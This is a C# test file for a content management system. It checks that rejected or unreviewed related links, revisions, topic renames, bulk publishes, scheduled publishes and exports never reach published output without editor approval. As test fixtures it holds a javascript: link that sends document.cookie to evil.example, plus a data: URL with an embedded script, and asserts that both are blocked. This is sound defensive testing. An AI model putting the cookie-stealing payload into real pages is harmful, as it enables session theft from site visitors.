using Cms.Testing;
using Cms.Application.Exporting;
using Cms.Application.Importing;
using Cms.Application.Items;
using Cms.Application.Publishing;
using Cms.Application.Queue;
using Cms.Application.Topics;
using Cms.Core.Auditing;
using Cms.Core.FrontMatter;
using Cms.Core.Items;
using Cms.Data.Entities;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace Cms.Application.Tests;

// What is published is what was reviewed: a related link is its URL, and a source revision, a topic
// rename, a bulk action, the scheduler or the export can never publish a link (or a field) nobody
// approved. Each case crosses link decisions with another capability, the way the earlier attack did.
public sealed class LinkIdentityWorkflowTests(ApplicationFixture app) : IClassFixture<ApplicationFixture>
{
    private const string Script = "javascript:fetch('https://evil.example/?c='+document.cookie)";

    private static readonly YamlFrontMatterReader Reader = new();

    // Three outlets: A and C approved, B rejected as propaganda.
    private sealed record Story(TestItem Item, string A, string B, string C)
    {
        public static Story New(IReadOnlyList<string>? topics = null)
        {
            var tag = Unique.Tag();
            var (a, b, c) = ($"https://a.example/{tag}", $"https://propaganda.example/{tag}", $"https://c.example/{tag}");
            return new Story(new TestItem { Topics = topics ?? [], Related = [("Outlet A", a), ("Outlet B", b), ("Outlet C", c)] }, a, b, c);
        }

        public string WithRelated(params (string Title, string Url)[] related) => (Item with { Related = related }).ToYaml();
    }

    private Item Stored(long id) => app.Read(db => db.Items.AsNoTracking().Single(i => i.Id == id));

    private List<RelatedLink> Links(long id) => app.Read(db => db.RelatedLinks.AsNoTracking().Where(l => l.ItemId == id).OrderBy(l => l.Position).ToList());

    private Task<Outcome> MoveAsync(Actor actor, long id, WorkflowAction action, string? reason = null) =>
        app.RunAsync(s => s.GetRequiredService<ItemTransitions>().HandleAsync(actor, new ItemTransitions.Request(id, action, reason), CancellationToken.None));

    private Task<int> DrainAsync() => app.RunAsync(s => s.GetRequiredService<PublishWorker>().RunOnceAsync("test-worker", CancellationToken.None));

    // The editor's decisions by URL, saved from the item page's handler.
    private async Task DecideAsync(Actor actor, long id, params (string Url, LinkDecision Decision, string? Reason)[] decisions)
    {
        var item = Stored(id);
        var topics = app.Read(db => db.ItemTopics.Where(t => t.ItemId == id).OrderBy(t => t.Position).Select(t => t.Topic!.Name).ToList());
        var changes = Links(id).Select(l => decisions.FirstOrDefault(d => d.Url == l.Url) is { Url: not null } d
            ? new SaveItemEdits.LinkChange(l.Id, d.Decision, d.Reason)
            : new SaveItemEdits.LinkChange(l.Id, l.Decision, l.Reason)).ToList();
        var saved = await app.RunAsync(s => s.GetRequiredService<SaveItemEdits>().HandleAsync(actor,
            new SaveItemEdits.Command(id, item.Version, item.Quality, item.Category, topics, changes, null), CancellationToken.None));
        Assert.True(saved.Succeeded, saved.Message);
    }

    // Imported, A and C approved and B rejected by the first editor, who marks it Ready.
    private async Task<long> ReviewedAsync(Story story)
    {
        var id = (await app.ImportAsync(story.Item.ToYaml()))[0];
        await DecideAsync(Actors.Editor(), id, (story.A, LinkDecision.Approved, null), (story.B, LinkDecision.Rejected, "propaganda outlet"), (story.C, LinkDecision.Approved, null));
        Assert.True((await MoveAsync(Actors.Editor(), id, WorkflowAction.MarkReady)).Succeeded);
        return id;
    }

    // A newer file for the item, uploaded by someone (it waits as a pending revision).
    private async Task ReviseAsync(Actor by, string text)
    {
        var files = new[] { ImportSources.FromBytes($"{Guid.NewGuid():N}.txt", System.Text.Encoding.UTF8.GetBytes(text)) };
        var outcome = await app.RunAsync(s => s.GetRequiredService<ItemImporter>().ImportAsync(by, files, null, CancellationToken.None));
        Assert.Equal(1, outcome.Value!.Revisions);
    }

    private async Task<Outcome> AcceptAsync(Actor actor, long id, IReadOnlyCollection<string>? fields)
    {
        var comparison = await app.RunAsync(s => s.GetRequiredService<SourceRevisions>().CompareAsync(id, CancellationToken.None));
        return await app.RunAsync(s => s.GetRequiredService<SourceRevisions>()
            .AcceptAsync(actor, id, comparison!.RevisionId, Stored(id).Version, fields, CancellationToken.None));
    }

    // The published file's related webUrls, in order, as a reader of the file sees them.
    private List<string> PublishedUrls(long id)
    {
        var text = File.ReadAllText(Path.Combine(app.PublishFolder, Stored(id).OutputFile!));
        return UrlsOf(text);
    }

    private static List<string> UrlsOf(string text) =>
        ((SourceMapping)Reader.ReadText("published", text).Root)["related"] is SourceSequence related
            ? related.Items.Cast<SourceMapping>().Select(m => ((SourceScalar)m["webUrl"]!).Value).ToList()
            : [];

    [Fact]
    public async Task A_revision_putting_a_script_link_first_accepted_with_nothing_ticked_publishes_exactly_the_approved_links()
    {
        var story = Story.New();
        var id = await ReviewedAsync(story);
        var bystander = Actors.Editor("bystander@example.com");
        await ReviseAsync(bystander, story.WithRelated(("Read this", Script), ("Outlet A", story.A), ("Outlet B", story.B), ("Outlet C", story.C)));

        Assert.True((await AcceptAsync(bystander, id, [])).Succeeded);
        var publish = await MoveAsync(Actors.Publisher(), id, WorkflowAction.Publish);
        await DrainAsync();

        // Nothing was taken, so the item kept its links and publishes what was reviewed; had the
        // change reached the output, the item would be New and the publication refused.
        Assert.True(publish.Succeeded, publish.Message);
        Assert.Equal([story.A, story.C], PublishedUrls(id));
        Assert.DoesNotContain("javascript", await File.ReadAllTextAsync(Path.Combine(app.PublishFolder, Stored(id).OutputFile!)));
    }

    [Fact]
    public async Task Taking_the_related_links_of_such_a_revision_keeps_each_decision_with_its_url_and_sends_the_item_back_to_new()
    {
        var story = Story.New();
        var id = await ReviewedAsync(story);
        await ReviseAsync(Actors.Editor("bystander@example.com"), story.WithRelated(("Read this", Script), ("New outlet", "https://new.example/x"), ("Outlet C", story.C), ("Outlet B", story.B), ("Outlet A", story.A)));

        var accepted = await AcceptAsync(Actors.Editor("bystander@example.com"), id, ["related"]);

        Assert.Equal(SourceRevisions.AcceptedBackToNew, accepted.Message);
        Assert.Equal(WorkflowState.New, Stored(id).State);
        Assert.Equal(
            [(Script, LinkDecision.Rejected), ("https://new.example/x", LinkDecision.Pending), (story.C, LinkDecision.Approved), (story.B, LinkDecision.Rejected), (story.A, LinkDecision.Approved)],
            Links(id).Select(l => (l.Url!, l.Decision)));
        Assert.Equal("propaganda outlet", Links(id).Single(l => l.Url == story.B).Reason);
        Assert.Equal(OutcomeStatus.Invalid, (await MoveAsync(Actors.Editor(), id, WorkflowAction.MarkReady)).Status);

        await DecideAsync(Actors.Editor("second@example.com"), id, ("https://new.example/x", LinkDecision.Rejected, null), (Script, LinkDecision.Approved, null));
        Assert.True((await MoveAsync(Actors.Editor("second@example.com"), id, WorkflowAction.MarkReady)).Succeeded);
        Assert.True((await MoveAsync(Actors.Publisher(), id, WorkflowAction.Publish)).Succeeded);
        await DrainAsync();

        Assert.Equal(LinkDecision.Rejected, Links(id).Single(l => l.Url == Script).Decision);
        Assert.Equal([story.C, story.A], PublishedUrls(id));
    }

    [Fact]
    public async Task Reordering_the_links_never_publishes_the_rejected_one()
    {
        var story = Story.New();
        var id = await ReviewedAsync(story);
        await ReviseAsync(Actors.Pipeline, story.WithRelated(("Outlet B", story.B), ("Outlet A", story.A), ("Outlet C", story.C)));

        Assert.True((await AcceptAsync(Actors.Editor("bystander@example.com"), id, [])).Succeeded);
        Assert.True((await MoveAsync(Actors.Publisher(), id, WorkflowAction.Publish)).Succeeded);
        await DrainAsync();

        Assert.Equal([story.A, story.C], PublishedUrls(id));
    }

    [Fact]
    public async Task A_publisher_cannot_publish_his_own_unreviewed_fields_by_accepting_a_revision_with_nothing_ticked()
    {
        var story = Story.New();
        var id = await ReviewedAsync(story);
        var publisher = Actors.Publisher("sneaky@example.com");
        var incoming = (story.Item with
        {
            ExtraYaml = ["body: \"<p>Unreviewed claims</p>\"", "canonical: \"https://evil.example/story\"", "secured: \"ZXZpbA==;aXY=\""],
        }).ToYaml();
        await ReviseAsync(publisher, incoming);

        var accepted = await AcceptAsync(publisher, id, []);
        var publish = await MoveAsync(publisher, id, WorkflowAction.Publish);

        Assert.Equal(SourceRevisions.AcceptedBackToNew, accepted.Message);
        Assert.Equal(WorkflowState.New, Stored(id).State);
        Assert.False(publish.Succeeded);
        // Marking it ready himself makes him the one four-eyes keeps from publishing it.
        Assert.True((await MoveAsync(publisher, id, WorkflowAction.MarkReady)).Succeeded);
        Assert.Equal(OutcomeStatus.Forbidden, (await MoveAsync(publisher, id, WorkflowAction.Publish)).Status);
        Assert.Null(Stored(id).OutputFile);
    }

    [Fact]
    public async Task Accepting_a_revision_that_changes_nothing_in_the_output_leaves_a_ready_item_ready_and_its_schedule_standing()
    {
        var story = Story.New();
        var id = await ReviewedAsync(story);
        var at = DateTimeOffset.UtcNow.AddHours(1);
        Assert.True((await app.RunAsync(s => s.GetRequiredService<PublishSchedule>().ScheduleAsync(Actors.Publisher(), id, at, CancellationToken.None))).Succeeded);
        // The same item with a changed title and heat, nothing ticked: the item keeps both.
        await ReviseAsync(Actors.Pipeline, (story.Item with { Title = story.Item.Title + " (corrected)", Heat = 99 }).ToYaml());

        var accepted = await AcceptAsync(Actors.Editor("bystander@example.com"), id, []);

        Assert.Equal(SourceRevisions.Accepted, accepted.Message);
        var item = Stored(id);
        Assert.Equal((WorkflowState.Ready, story.Item.Title), (item.State, item.Title));
        Assert.NotNull(item.PublishAt);
        Assert.DoesNotContain("(corrected)", item.SourceYaml);
    }

    [Fact]
    public async Task A_revision_accepted_on_a_scheduled_item_whose_output_changes_drops_the_schedule_and_the_worker_publishes_nothing()
    {
        var story = Story.New();
        var id = await ReviewedAsync(story);
        Assert.True((await app.RunAsync(s => s.GetRequiredService<PublishSchedule>().ScheduleAsync(Actors.Publisher(), id, DateTimeOffset.UtcNow.AddHours(1), CancellationToken.None))).Succeeded);
        await ReviseAsync(Actors.Pipeline, (story.Item with { ExtraYaml = ["body: \"<p>Unreviewed</p>\""] }).ToYaml());

        Assert.True((await AcceptAsync(Actors.Editor("bystander@example.com"), id, [])).Succeeded);
        // Due now, as far as the database is concerned.
        app.Read(db => db.Items.Where(i => i.Id == id).ExecuteUpdate(s => s.SetProperty(i => i.PublishAt, DateTimeOffset.UtcNow.AddMinutes(-1))));
        await app.RunAsync(s => s.GetRequiredService<PublishSchedule>().PublishDueAsync(Actor.System("worker"), CancellationToken.None));

        var item = Stored(id);
        Assert.Equal(WorkflowState.New, item.State);
        Assert.Null(item.OutputFile);
    }

    [Fact]
    public async Task A_scheduled_item_whose_links_were_reordered_is_published_when_due_with_exactly_the_approved_links()
    {
        var story = Story.New();
        var id = await ReviewedAsync(story);
        Assert.True((await app.RunAsync(s => s.GetRequiredService<PublishSchedule>().ScheduleAsync(Actors.Publisher(), id, DateTimeOffset.UtcNow.AddHours(1), CancellationToken.None))).Succeeded);
        await ReviseAsync(Actors.Pipeline, story.WithRelated(("Outlet C", story.C), ("Outlet B", story.B), ("Outlet A", story.A)));
        Assert.True((await AcceptAsync(Actors.Editor("bystander@example.com"), id, [])).Succeeded);

        app.Read(db => db.Items.Where(i => i.Id == id).ExecuteUpdate(s => s.SetProperty(i => i.PublishAt, DateTimeOffset.UtcNow.AddMinutes(-1))));
        Assert.Equal(1, await app.RunAsync(s => s.GetRequiredService<PublishSchedule>().PublishDueAsync(Actor.System("worker"), CancellationToken.None)));
        await DrainAsync();

        Assert.Equal([story.A, story.C], PublishedUrls(id));
    }

    [Fact]
    public async Task A_bulk_publish_of_items_whose_links_moved_writes_exactly_the_approved_links_of_each()
    {
        var stories = Enumerable.Range(0, 3).Select(_ => Story.New()).ToList();
        var ids = new List<long>();
        foreach (var story in stories)
        {
            var id = await ReviewedAsync(story);
            await ReviseAsync(Actors.Pipeline, story.WithRelated(("Outlet B", story.B), ("Outlet C", story.C), ("Outlet A", story.A)));
            Assert.True((await AcceptAsync(Actors.Editor("bystander@example.com"), id, [])).Succeeded);
            ids.Add(id);
        }

        var bulk = await app.RunAsync(s => s.GetRequiredService<BulkEdit>().HandleAsync(Actors.Publisher(), new BulkEdit.Command(ids, nameof(WorkflowAction.Publish), null), CancellationToken.None));
        Assert.True(bulk.Succeeded, bulk.Message);
        await DrainAsync();

        Assert.All(ids.Zip(stories), p => Assert.Equal([p.Second.A, p.Second.C], PublishedUrls(p.First)));
    }

    [Fact]
    public async Task The_export_command_writes_exactly_the_approved_links_by_url()
    {
        var story = Story.New();
        var id = await ReviewedAsync(story);
        await ReviseAsync(Actors.Pipeline, story.WithRelated(("Read this", Script), ("Outlet B", story.B), ("Outlet A", story.A), ("Outlet C", story.C)));
        Assert.True((await AcceptAsync(Actors.Editor("bystander@example.com"), id, ["related"])).Succeeded);
        var folder = Path.Combine(Path.GetTempPath(), "cms-export-" + Unique.Tag());
        try
        {
            await app.RunAsync(s => s.GetRequiredService<ItemExporter>().ExportAsync(folder, WorkflowState.New, CancellationToken.None));

            Assert.Equal([story.A, story.C], UrlsOf(await File.ReadAllTextAsync(Path.Combine(folder, Stored(id).FileName))));
        }
        finally
        {
            Directory.Delete(folder, recursive: true);
        }
    }

    [Fact]
    public async Task A_url_written_differently_is_the_same_link_and_keeps_its_decision()
    {
        var story = Story.New();
        var id = await ReviewedAsync(story);
        var shouted = story.A.Replace("https://a.example/", "HTTPS://A.Example:443/");
        await ReviseAsync(Actors.Pipeline, story.WithRelated(("Outlet A", shouted), ("Outlet B", story.B), ("Outlet C", story.C)));

        Assert.True((await AcceptAsync(Actors.Editor(), id, ["related"])).Succeeded);

        Assert.Equal(LinkDecision.Approved, Links(id).Single(l => l.Url == shouted).Decision);
    }

    [Fact]
    public async Task A_link_whose_url_changed_is_a_new_link_to_decide()
    {
        var story = Story.New();
        var id = await ReviewedAsync(story);
        await ReviseAsync(Actors.Pipeline, story.WithRelated(("Outlet A", story.A + "?page=2"), ("Outlet B", story.B), ("Outlet C", story.C)));

        Assert.True((await AcceptAsync(Actors.Editor(), id, ["related"])).Succeeded);

        Assert.Equal(LinkDecision.Pending, Links(id).Single(l => l.Url == story.A + "?page=2").Decision);
        Assert.Equal(WorkflowState.New, Stored(id).State);
    }

    [Fact]
    public async Task Of_two_entries_with_one_url_only_the_first_can_be_approved_and_it_is_published_once()
    {
        var tag = Unique.Tag();
        var url = $"https://twice.example/{tag}";
        var id = (await app.ImportAsync(new TestItem { Related = [("First", url), ("Second", url.Replace("https://twice", "HTTPS://TWICE"))] }.ToYaml()))[0];

        Assert.Equal([LinkDecision.Pending, LinkDecision.Rejected], Links(id).Select(l => l.Decision));
        Assert.Equal("same URL as related link 1", Links(id)[1].Reason);
        await app.RunAsync(s => s.GetRequiredService<BulkEdit>().HandleAsync(Actors.Editor(), new BulkEdit.Command([id], BulkEdit.ApproveLinks, null), CancellationToken.None));
        Assert.Equal([LinkDecision.Approved, LinkDecision.Rejected], Links(id).Select(l => l.Decision));
        await MoveAsync(Actors.Editor(), id, WorkflowAction.MarkReady);
        await MoveAsync(Actors.Publisher(), id, WorkflowAction.Publish);
        await DrainAsync();

        Assert.Equal([url], PublishedUrls(id));
    }

    [Fact]
    public async Task A_link_that_is_not_absolute_http_is_never_published_even_when_stored_as_approved()
    {
        var story = Story.New();
        var id = (await app.ImportAsync(story.WithRelated(("Outlet A", story.A), ("Read this", Script))))[0];
        await DecideAsync(Actors.Editor(), id, (story.A, LinkDecision.Approved, null), (Script, LinkDecision.Approved, null));
        Assert.Equal(LinkDecision.Rejected, Links(id).Single(l => l.Url == Script).Decision);
        // However it got there (an old row, a hand edit of the database), the output ignores it.
        app.Read(db => db.RelatedLinks.Where(l => l.ItemId == id).ExecuteUpdate(s => s.SetProperty(l => l.Decision, LinkDecision.Approved)));
        await MoveAsync(Actors.Editor(), id, WorkflowAction.MarkReady);
        await MoveAsync(Actors.Publisher(), id, WorkflowAction.Publish);
        await DrainAsync();

        Assert.Equal([story.A], PublishedUrls(id));
    }

    // Nobody edited it: the import rejected its links at once, so nothing was left to decide and
    // it could be marked ready and published untouched.
    [Fact]
    public async Task An_item_nobody_edited_never_publishes_the_links_the_import_rejected()
    {
        var id = (await app.ImportAsync(new TestItem { Related = [("Read this", Script), ("Or this", "data:text/html,<script>alert(1)</script>"), ("Relative", "/story/" + Unique.Tag())] }.ToYaml()))[0];
        Assert.Null(Stored(id).EditedAt);
        Assert.True((await MoveAsync(Actors.Editor(), id, WorkflowAction.MarkReady)).Succeeded);
        Assert.True((await MoveAsync(Actors.Publisher(), id, WorkflowAction.Publish)).Succeeded);
        await DrainAsync();

        Assert.Empty(PublishedUrls(id));
    }

    // Links stored before identities existed: both entries of one URL approved, by position.
    [Fact]
    public async Task Links_stored_before_identities_get_them_at_migrate_keeping_their_decisions_and_one_url_is_published_once()
    {
        var tag = Unique.Tag();
        var (url, other) = ($"https://old.example/{tag}", $"https://other.example/{tag}");
        var id = (await app.ImportAsync(new TestItem { Related = [("First", url), ("Other", other), ("Again", url.Replace("https://old", "HTTPS://OLD"))] }.ToYaml()))[0];
        app.Read(db => db.RelatedLinks.Where(l => l.ItemId == id).ExecuteUpdate(s => s
            .SetProperty(l => l.Identity, (string?)null).SetProperty(l => l.IsSafeUrl, true)
            .SetProperty(l => l.Decision, l => l.Position == 1 ? LinkDecision.Rejected : LinkDecision.Approved).SetProperty(l => l.Reason, (string?)null)));

        var assigned = await app.RunAsync(s => s.GetRequiredService<Setup.LinkIdentityBackfill>().RunAsync(CancellationToken.None));

        Assert.Equal(2, assigned);
        Assert.Contains(app.Read(db => db.AuditEvents.Where(a => a.Action == AuditActions.LinkIdentitiesAssigned && a.Actor == "system:setup").Select(a => a.Data).ToList()),
            data => data!.Contains($"\"firstItem\":{id}") || data.Contains($"\"lastItem\":{id}"));
        Assert.Equal([(url, LinkDecision.Approved), (other, LinkDecision.Rejected), (null, LinkDecision.Approved)], Links(id).Select(l => (l.Identity, l.Decision)));
        Assert.Equal(0, await app.RunAsync(s => s.GetRequiredService<Setup.LinkIdentityBackfill>().RunAsync(CancellationToken.None)));
        await MoveAsync(Actors.Editor(), id, WorkflowAction.MarkReady);
        Assert.True((await MoveAsync(Actors.Publisher(), id, WorkflowAction.Publish)).Succeeded);
        await DrainAsync();
        Assert.Equal([url], PublishedUrls(id));
    }

    // A stored URL whose identity would not fit the index (LinkIdentity.TooLong) gets none, as the
    // importer would refuse it, instead of failing the whole backfill in the database.
    [Fact]
    public async Task A_link_stored_before_identities_whose_url_is_too_long_to_be_a_link_gets_none_and_the_others_do()
    {
        var tag = Unique.Tag();
        var (url, tooLong) = ($"https://old.example/{tag}", $"https://cjk.example/{tag}/" + new string(Enumerable.Range(0, 1900).Select(i => (char)(0x4E00 + i % 5000)).ToArray()));
        var id = (await app.ImportAsync(new TestItem { Related = [("Fine", url), ("Long", $"https://placeholder.example/{tag}")] }.ToYaml()))[0];
        app.Read(db => db.RelatedLinks.Where(l => l.ItemId == id).ExecuteUpdate(s => s
            .SetProperty(l => l.Identity, (string?)null).SetProperty(l => l.IsSafeUrl, true)
            .SetProperty(l => l.Url, l => l.Position == 1 ? tooLong : l.Url)));

        var assigned = await app.RunAsync(s => s.GetRequiredService<Setup.LinkIdentityBackfill>().RunAsync(CancellationToken.None));

        Assert.True(assigned >= 1);
        Assert.Equal([LinkIdentity.Of(url), null], Links(id).Select(l => l.Identity));
    }

    [Fact]
    public async Task Renaming_a_topic_sends_the_ready_items_carrying_it_back_to_new_and_drops_their_schedules()
    {
        var topic = "Japan " + Unique.Tag();
        var story = Story.New([topic]);
        var id = await ReviewedAsync(story);
        Assert.True((await app.RunAsync(s => s.GetRequiredService<PublishSchedule>().ScheduleAsync(Actors.Publisher(), id, DateTimeOffset.UtcNow.AddHours(1), CancellationToken.None))).Succeeded);
        var topicId = app.Read(db => db.Topics.Single(t => t.Name == topic).Id);
        var publisher = Actors.Publisher("renamer@example.com");

        var renamed = await app.RunAsync(s => s.GetRequiredService<TopicAdministration>().RenameAsync(publisher, topicId, topic + " (hoax claims confirmed)", CancellationToken.None));

        Assert.True(renamed.Succeeded, renamed.Message);
        Assert.Contains("1 Ready item went back to New", renamed.Message);
        var item = Stored(id);
        Assert.Equal((WorkflowState.New, (DateTimeOffset?)null), (item.State, item.PublishAt));
        Assert.False((await MoveAsync(publisher, id, WorkflowAction.Publish)).Succeeded);
        var edited = app.Read(db => db.AuditEvents.Single(a => a.Action == AuditActions.ItemEdited && a.EntityId == id.ToString() && a.Actor == "renamer@example.com"));
        Assert.Contains("(hoax claims confirmed)", edited.Data);
        Assert.Contains("\"after\":\"New\"", edited.Data);
    }

    [Fact]
    public async Task Renaming_a_topic_while_an_item_carrying_it_is_being_marked_ready_sends_that_item_back_to_new()
    {
        var topic = "Korea " + Unique.Tag();
        var story = Story.New([topic]);
        var id = (await app.ImportAsync(story.Item.ToYaml()))[0];
        var topicId = app.Read(db => db.Topics.Single(t => t.Name == topic).Id);
        // A Mark ready in flight: the item's row is Ready but not yet committed.
        await using var marking = await RowLocks.HoldAsync(app.ConnectionString,
            $"UPDATE items SET state = 'Ready', ready_by = 'someone', ready_by_name = 'someone@example.com', ready_at = now() WHERE id = {id}");

        var renaming = app.RunAsync(s => s.GetRequiredService<TopicAdministration>().RenameAsync(Actors.Publisher(), topicId, topic + " (renamed)", CancellationToken.None));
        await marking.WaitedForByAsync(renaming, "the rename");
        await marking.CommitAsync();
        var renamed = await renaming;

        Assert.True(renamed.Succeeded, renamed.Message);
        Assert.Contains("1 Ready item went back to New", renamed.Message);
        Assert.Equal(WorkflowState.New, Stored(id).State);
    }

    [Fact]
    public async Task Merging_a_topic_sends_the_ready_items_carrying_it_back_to_new_but_not_those_of_the_surviving_topic()
    {
        var (from, into) = ("Nippon " + Unique.Tag(), "Japan " + Unique.Tag());
        var moving = await ReviewedAsync(Story.New([from]));
        var staying = await ReviewedAsync(Story.New([into]));
        var ids = app.Read(db => (db.Topics.Single(t => t.Name == from).Id, db.Topics.Single(t => t.Name == into).Id));

        var merged = await app.RunAsync(s => s.GetRequiredService<TopicAdministration>().MergeAsync(Actors.Publisher(), ids.Item1, ids.Item2, CancellationToken.None));

        Assert.True(merged.Succeeded, merged.Message);
        Assert.Equal(WorkflowState.New, Stored(moving).State);
        Assert.Equal(WorkflowState.Ready, Stored(staying).State);
    }

    [Fact]
    public async Task Link_decisions_are_audited_by_url_and_title_and_still_name_the_right_links_after_a_revision_inserts_one()
    {
        var story = Story.New();
        var id = await ReviewedAsync(story);
        await ReviseAsync(Actors.Pipeline, story.WithRelated(("Inserted", "https://inserted.example/x"), ("Outlet A", story.A), ("Outlet B", story.B), ("Outlet C", story.C)));
        Assert.True((await AcceptAsync(Actors.Editor(), id, ["related"])).Succeeded);

        var events = app.Read(db => db.AuditEvents.Where(a => a.EntityId == id.ToString() && a.Action == AuditActions.ItemEdited).Select(a => a.Data!).ToList());
        var decisions = events.Single(e => e.Contains("propaganda outlet"));
        Assert.Contains($"\"url\":\"{story.B}\",\"title\":\"Outlet B\",\"before\":\"Pending\",\"after\":\"Rejected\"", decisions);
        Assert.Contains($"\"url\":\"{story.A}\",\"title\":\"Outlet A\",\"before\":\"Pending\",\"after\":\"Approved\"", decisions);
        Assert.DoesNotContain("related[", decisions);
        var accepted = app.Read(db => db.AuditEvents.Single(a => a.EntityId == id.ToString() && a.Action == AuditActions.ItemRevisionAccepted).Data!);
        Assert.Contains("\"url\":\"https://inserted.example/x\",\"title\":\"Inserted\",\"before\":null,\"after\":\"Pending\"", accepted);
    }

    [Fact]
    public async Task A_bulk_link_decision_names_each_link_by_url_and_title()
    {
        var story = Story.New();
        var id = (await app.ImportAsync(story.Item.ToYaml()))[0];

        await app.RunAsync(s => s.GetRequiredService<BulkEdit>().HandleAsync(Actors.Editor(), new BulkEdit.Command([id], BulkEdit.RejectLinks, null), CancellationToken.None));

        var data = app.Read(db => db.AuditEvents.Single(a => a.EntityId == id.ToString() && a.Action == AuditActions.ItemBulkEdited).Data!);
        Assert.All([story.A, story.B, story.C], url => Assert.Contains($"\"url\":\"{url}\"", data));
        Assert.Contains("\"title\":\"Outlet B\"", data);
    }
}
